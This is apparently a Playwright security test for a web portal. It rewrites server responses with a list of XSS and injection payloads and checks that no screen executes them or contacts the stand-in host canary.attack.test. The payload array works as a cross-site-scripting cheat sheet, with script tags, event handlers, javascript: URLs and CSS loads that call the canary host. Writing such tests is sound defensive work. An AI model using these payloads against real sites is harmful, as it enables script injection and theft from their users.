import type { Page } from "@playwright/test";
import { expect, forgive, test } from "./test";
import { signIn } from "./visit";

// Every text that the server tells the portal is replaced on its way by one that attacks any page that shows it. No
// screen may run it, load from where it points, or break on it.

test.describe.configure({ mode: "serial" });

const canary = "canary.attack.test";
const run = `globalThis.hit=1;fetch('//${canary}')`;

const payloads = [
  `<script>${run}</script>`,
  `"><script src=//${canary}/x.js></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=//${canary}/pixel.gif>`,
  `<svg onload="${run}">`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><script>${run}</script></svg>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<link rel=stylesheet href=//${canary}/x.css>`,
  `<style>@import '//${canary}/x.css'</style>`,
  `<style>*{background:url(//${canary}/x)}</style>`,
  `<div style="background:url(//${canary}/x)">`,
  `<meta http-equiv=refresh content="0;url=//${canary}">`,
  `<base href="//${canary}/">`,
  `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<xss style="animation-name:x" onanimationstart="${run}">`,
  `<img src="x" onerror=${run}//`,
  `<img/src="x"/onerror="${run}">`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<<script>${run}//<</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `';${run}//`,
  `";${run}//`,
  `\\";${run}//`,
  `\`;${run}//`,
  `\${${run}}`,
  `{{constructor.constructor("${run}")()}}`,
  `#{7*7}<%= 7*7 %>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:msgbox(1)`,
  `//${canary}/`,
  `https://${canary}/x.png`,
  `[x](javascript:${run})`,
  `![x](//${canary}/x.png)`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\u202egpj.exe`,
  `a\u0000b`,
  `${"Ñ".repeat(2000)}`,
  `${"W".repeat(65_536)}`,
];

/** What screens need as it is: ids, times, enumerations, and whatever decides which screen it is. */
const kept =
  /^([a-z_]+-[0-9a-f-]{8,}|\d{4}-\d\d(-\d\d.*)?|[A-Z0-9_.]{2,}|[a-z]+(_[a-z]+)+|#[0-9a-f]{6}|-?[\d.]+|[A-Z][a-z]+\/[A-Za-z_]+)$/;
const keptKeys =
  /^(code|requestId|message|token|accessToken|nextCursor|mode|role|status|type|kind|.*Id|id|ids|currency|frequency|valueType|.*At|month|.*Date|locale|action|openUrl|sandboxUrl|portalUrl|linkUrl)$/;

let next = 0;
/** Calls of the page that are not answered yet. */
let pending = 0;

function poison(value: unknown, key = ""): unknown {
  if (Array.isArray(value)) return value.map((item) => poison(item, key));
  if (value && typeof value === "object") {
    return Object.fromEntries(
      Object.entries(value).map(([name, item]) => [name, poison(item, name)]),
    );
  }
  if (typeof value !== "string" || keptKeys.test(key) || kept.test(value)) return value;
  next += 1;
  if (/url$/i.test(key)) return `javascript:${run}`;
  return payloads[next % payloads.length];
}

async function poisonAnswers(page: Page) {
  // (the configuration is the operator's own, the personas are a part of the program, the stream of changes names topics
  // and never ends)
  await page.route(
    /\/(api|sandbox|open)\/v1\/(?!config$|personas|portal\/changes)/,
    async (route) => {
      pending += 1;
      try {
        const answer = await route.fetch();
        if (!answer.headers()["content-type"]?.includes("json"))
          return await route.fulfill({ response: answer });
        const body = await answer.json();
        await route.fulfill({
          response: answer,
          json: { ...body, data: poison(body.data) },
        });
      } catch {
        await route.abort().catch(() => undefined); // the page was left meanwhile
      } finally {
        pending -= 1;
      }
    },
  );
}

const screens = [
  "/dashboard",
  "/users",
  "/users?tab=unsuccessful",
  "/providers",
  "/usage",
  "/conversion",
  "/webhooks",
  "/api-keys",
  "/request-log",
  "/request-log?tab=endpoints",
  "/request-log?tab=errors",
  "/link/template",
  "/link/winkSite",
  "/link/winkSite?tab=data",
  "/link/emulator",
  "/account/organization",
  "/account/team",
  "/account/security",
  "/account/audit",
  "/blog",
];

test("no screen runs, loads or breaks on hostile texts in anything the server tells", async ({
  server,
  visitor,
}) => {
  const { page } = visitor;
  // An address of a picture is loaded or, by the policy, not; a text in one is no picture.
  visitor.provoked = /img-src/;
  forgive(visitor, /img-src|Failed to load resource/);
  const dialogs: string[] = [];
  const requests: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const isPicture = request.resourceType() === "image";
    if (request.url().startsWith("http") && new URL(request.url()).host === canary && !isPicture)
      requests.push(request.url());
  });
  await signIn(page, server);
  await page.evaluate(() => localStorage.setItem("mode", "SANDBOX"));
  const { userId } = JSON.parse(
    server.operator("fixture", "account", "--tenant", "ada@bayani.test", "--mode", "SANDBOX"),
  );
  await poisonAnswers(page);
  for (const screen of [...screens, `/users/user-details?userId=${userId}`]) {
    const before = next;
    await page.goto(`${server.portal}${screen}`);
    await expect(page.locator("main, [role=main]").first()).toBeVisible();
    await expect.poll(() => next > before && pending === 0, screen).toBe(true);
    await expect(page.locator("[aria-busy=true]"), screen).toHaveCount(0);
    expect(await page.evaluate(() => Reflect.get(globalThis, "hit")), screen).toBeUndefined();
    await expect(page.getByText("Something went wrong"), screen).toHaveCount(0);
    await expect(
      page.locator(
        ":is(a, area)[href^='javascript:' i], :is(iframe, script, embed)[src^='javascript:' i]",
      ),
      screen,
    ).toHaveCount(0);
  }
  await page.unrouteAll({ behavior: "ignoreErrors" });
  expect(next).toBeGreaterThan(payloads.length * 2);
  expect(dialogs).toEqual([]);
  expect(requests).toEqual([]);
});
